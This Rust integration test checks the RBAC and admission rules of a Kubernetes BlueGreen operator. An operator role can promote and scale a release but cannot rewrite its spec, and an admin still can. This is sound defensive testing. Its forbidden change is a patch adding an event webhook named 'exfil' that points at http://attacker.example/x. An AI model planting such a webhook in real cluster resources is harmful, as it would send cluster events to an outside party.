//! The `teal-operator` role of deploy/user-roles.yaml, held alone by a
//! ServiceAccount: it promotes a release through the `teal.dev/command`
//! annotation and scales it through the scale subresource, and it cannot
//! change the rest of the BlueGreen's spec (its webhooks, for one). An admin
//! still can. Real control plane: RBAC and admission
//! as deploy/user-roles.yaml sets them up, applied with kubectl.

mod support;

use std::collections::BTreeMap;
use std::time::Duration;

use kube::Api;
use kube::api::{Patch, PatchParams};
use serde_json::json;
use support::case;
use teal_api::BlueGreen;
use teal_testenv::{TestEnv, wait_for};

fn add_webhook() -> Patch<serde_json::Value> {
    Patch::Merge(json!({"spec": {"webhooks": [
        {"name": "exfil", "type": "event", "url": "http://attacker.example/x"}
    ]}}))
}

#[tokio::test(flavor = "multi_thread")]
async fn an_operator_promotes_but_cannot_rewrite_the_spec() {
    let env = TestEnv::shared();
    let mut c = case("operator-role").await;
    let file =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../deploy/user-roles.yaml");
    let mut kubectl = env.kubectl();
    kubectl
        .args(["apply", "--server-side", "--force-conflicts", "-f"])
        .arg(&file);
    let out = kubectl.output().unwrap();
    assert!(out.status.success(), "kubectl apply: {out:?}");

    c.bind("ops", ("ClusterRole", "teal-operator")).await;
    let ops: Api<BlueGreen> = Api::namespaced(c.client_as("ops").await, &c.ns);
    c.adopted(json!({
        "workloadRef": {"kind": "Deployment", "name": "shop"},
        "scaleDownDelay": "1s",
        "promotion": {"mode": "manual"}
    }))
    .await;
    c.set_image("shop", "shop:2", BTreeMap::new()).await;
    c.wait_status("waiting for promotion", "shop", |s| {
        s.phase.as_deref() == Some("AwaitingPromotion")
    })
    .await;

    // The operator's spec change is refused (the policy may take a moment
    // to be in force after it was applied: asked as a dry run until then).
    let refused = wait_for(
        "the operator's spec change refused",
        Duration::from_secs(30),
        || {
            let ops = ops.clone();
            async move {
                match ops
                    .patch("shop", &PatchParams::default().dry_run(), &add_webhook())
                    .await
                {
                    Err(kube::Error::Api(e)) => Ok(e),
                    Err(e) => Err(format!("{e}")),
                    Ok(_) => Err("accepted".to_string()),
                }
            }
        },
    )
    .await;
    println!(
        "operator's spec change: {} {}",
        refused.code, refused.message
    );
    let err = ops
        .patch("shop", &PatchParams::default(), &add_webhook())
        .await
        .unwrap_err();
    assert!(format!("{err}").contains("teal.dev/command"), "{err}");
    let bg = c.bluegreens().get("shop").await.unwrap();
    assert!(bg.spec.webhooks.is_empty(), "{:?}", bg.spec.webhooks);

    // The operator's command goes through.
    let patch = json!({"metadata": {"annotations": {"teal.dev/command": "promote/1"}}});
    ops.patch("shop", &PatchParams::default(), &Patch::Merge(patch))
        .await
        .unwrap();
    c.wait_status("promoted by the operator", "shop", |s| {
        s.history.iter().any(|h| h.outcome == "promoted")
    })
    .await;

    // The operator scales the live color, as `kubectl scale` does.
    ops.patch_scale(
        "shop",
        &PatchParams::default(),
        &Patch::Merge(json!({"spec": {"replicas": 3}})),
    )
    .await
    .unwrap();
    assert_eq!(
        c.bluegreens().get("shop").await.unwrap().spec.replicas,
        Some(3)
    );

    // An admin still edits the spec.
    c.bluegreens()
        .patch("shop", &PatchParams::default(), &add_webhook())
        .await
        .unwrap();
}
